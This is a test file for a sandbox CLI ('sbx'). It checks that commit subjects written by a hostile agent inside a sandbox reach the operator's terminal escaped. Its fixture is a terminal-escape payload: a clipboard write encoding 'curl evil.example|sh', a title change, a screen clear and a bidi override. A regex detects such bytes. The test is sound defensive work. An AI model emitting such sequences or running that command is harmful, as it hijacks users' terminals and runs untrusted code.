// Invariant "nothing from a sandbox is printed raw": what a hostile agent writes into a commit subject reaches the
// person's terminal through sbx (rm's refusal, list, logs) with every escape shown, none sent.
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { join } from "node:path";
import { dockerCliWorld, type DockerCliWorld } from "../../support/docker-cli-world";

let x: DockerCliWorld;
beforeEach(async () => {
  x = await dockerCliWorld();
});
afterEach(async () => {
  await x.close();
});

/** A subject that would write the clipboard, set the title, clear the screen and reorder text. */
const SUBJECT = "fix\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 \x1b]0;pwned\x07\x1b[2J\x9b1A \u202eexe.sh";

/** Bytes that act on a terminal: ESC not starting sbx's own colour, BEL, C1, bidi overrides. */
const RAW = /\x1b(?!\[(?:\d+;?)*m)|[\x07\x9b\u202e]/;

describe("sandbox-chosen text on the terminal", () => {
  test("rm's refusal names the commit with its subject shown, not sent", async () => {
    expect((await x.cli(["create", "h"])).code).toBe(0);
    const clone = join(String(x.daemon.store.findSandbox(x.w.repo, "h")!.identity.dir), "clone");
    await x.w.git(clone, "commit", "-q", "--allow-empty", "-m", SUBJECT);
    for (const argv of [["rm", "h"], ["list"]]) {
      const r = await x.cli(argv, undefined);
      expect({ argv, raw: RAW.test(r.stdout + r.stderr) }).toEqual({ argv, raw: false });
    }
    const rm = await x.cli(["rm", "h"]);
    expect(rm.code).toBe(65);
    expect(rm.stderr).toContain("fix\\x1b]52;c;");
    expect(rm.stderr).toContain("\\u202eexe.sh");
  });

  test("--json carries the same text JSON-escaped (a script gets the exact bytes; nothing raw on a terminal)", async () => {
    expect((await x.cli(["create", "j"])).code).toBe(0);
    const clone = join(String(x.daemon.store.findSandbox(x.w.repo, "j")!.identity.dir), "clone");
    await x.w.git(clone, "commit", "-q", "--allow-empty", "-m", SUBJECT);
    const r = await x.cli(["list", "--json"]);
    expect(RAW.test(r.stdout)).toBe(false);
    const subject = (JSON.parse(r.stdout) as { unsynced: { subject: string }[] }[])[0]!.unsynced[0]!.subject;
    expect(subject).toBe(SUBJECT);
  });
});
